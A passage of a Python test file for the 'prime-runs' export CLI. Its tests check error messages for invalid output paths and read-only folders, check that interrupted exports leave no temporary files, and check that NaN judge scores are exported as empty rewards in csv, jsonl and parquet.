            "blanks": "prime-runs: invalid value for '-o' / '--output': '  ' is blanks only and names no file",
            "dash": "prime-runs: invalid value for '-o' / '--output': '-' is not standard output here",
            "below a file": f"prime-runs: {out}: {tmp_path / 'afile'} is a file, not a folder",
            "below a dangling link": f"prime-runs: {out}: {tmp_path / 'mnt'} is a symbolic link to "
                                     f"{tmp_path / 'not-mounted'}, which does not exist",
            "below a link loop": f"prime-runs: {out}: {tmp_path / 'loop-a'} is a loop of symbolic links"}[kind]
    result = subprocess.run(CLI + ["export", str(tmp_path / "runs"), "--format", "jsonl", "-o", out], cwd=work,
                            capture_output=True, text=True, env=child_env(), timeout=120)
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stderr.count("\n") == 1 and last_line(result).startswith(said), result.stderr
    assert list(work.iterdir()) == [] and not (tmp_path / "not-mounted").exists()
    assert (tmp_path / "afile").read_text() == "x\n"


@pytest.mark.slow  # a subprocess and a mount
def test_a_file_in_a_read_only_folder_is_named_as_given_not_by_its_temporary_name(tmp_path: Path) -> None:
    """The export writes under a temporary name beside FILE; when the folder cannot take it
    (mounted read-only), the one line names FILE, the name the user gave, and why."""
    build_run(tmp_path / "in" / "run", "export-read-only", 2)
    with tmpfs(tmp_path / "ro", "ro,size=1m") as folder:
        result = run_cli("export", str(tmp_path / "in"), "-o", str(folder / "episodes.csv"))
    assert result.returncode == 1, result.stderr
    assert last_line(result) == f"prime-runs: {folder / 'episodes.csv'}: cannot be written (Read-only file system)"


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
@pytest.mark.parametrize("where", ["created", "begun", "renamed"])
def test_an_export_stopped_as_its_file_is_created_begun_or_renamed_leaves_no_temporary_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str, where: str) -> None:
    """A Ctrl-C (KeyboardInterrupt) as the temporary file was created (the open made it, the
    call had not returned), as its header was written, or as it was renamed into place: the
    destination as it was, no temporary file beside it. Before, the first two had no sink
    yet for the caller to discard, and the rename was outside the discarding block: a full
    run's Ctrl-C test met the first two, one run in a few."""
    import prime_runs_spool.export.sinks as sinks

    build_run(tmp_path / "run", f"export-stopped-{fmt}-{where}", 2)
    out = tmp_path / "table" / f"x.{fmt}"
    out.parent.mkdir()

    def stop(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    def created(path: Path, flags: int) -> int:
        os.close(real_open(path, flags))
        raise KeyboardInterrupt

    real_open = sinks.open_private
    if where == "created":
        monkeypatch.setattr(sinks, "open_private", created)
    else:
        monkeypatch.setattr(sinks.os, "fdopen" if where == "begun" else "replace", stop)
    with pytest.raises(KeyboardInterrupt):
        export_file([tmp_path / "run"], out, fmt)
    monkeypatch.undo()
    assert list(out.parent.iterdir()) == []


def _scored_episode(episode_id: str, correct: float) -> Any:
    """A verifiers 0.4 Episode whose trace's ``correct`` reward scored ``correct`` (NaN: a
    judge that failed), beside a ``style`` reward of 0.5."""
    from verifiers.v1.episode import Episode

    task = {"type": "t", "data": {"idx": 0}}
    return Episode.model_validate({"id": episode_id, "ok": True, "task": task, "traces": [{
        "task": task, "agent": {"name": "solver", "config": {}, "trainable": True},
        "rewards": {"correct": {"score": correct}, "style": {"score": 0.5}}}]})


@pytest.mark.slow
def test_a_nan_score_is_exported_as_no_reward_in_every_format(tmp_path: Path) -> None:
    """A score the run never had (NaN, which the line holds as null) was exported as a reward
    of 0.5: the other reward alone, as if the failed judge had scored 0, and averaged so in
    the seal. Its reward and its own column are empty in every format, as the platform row
    prime-runs 0.1.4 builds of it holds null (tests/test_projection.py); the run's mean is the
    finite rewards'."""
    from prime_runs_spool import open_run

    with open_run(tmp_path / "runs" / "r", name="nan-judge") as run:
        run.log_episodes([_scored_episode("judged", 1.0), _scored_episode("judge-failed", float("nan"))])
    assert run.summary()["avg_reward"] == 1.5
    for fmt in ("parquet", "csv", "jsonl"):
        out = tmp_path / f"samples.{fmt}"
        result = export(str(tmp_path / "runs"), "-o", str(out))
        assert result.returncode == 0, result.stderr
        rows = duckdb.sql(f"SELECT episode_id, reward, \"metric:correct\", \"metric:style\" FROM {read(out)} "
                          "ORDER BY episode_id").fetchall()
        assert rows == [("judge-failed", None, None, 0.5), ("judged", 1.5, 1.0, 0.5)], fmt
    out = tmp_path / "runs.csv"
    assert export(str(tmp_path / "runs"), "--runs", "-o", str(out)).returncode == 0
    assert duckdb.sql(f"SELECT avg_reward FROM {read(out)}").fetchall() == [(1.5,)]
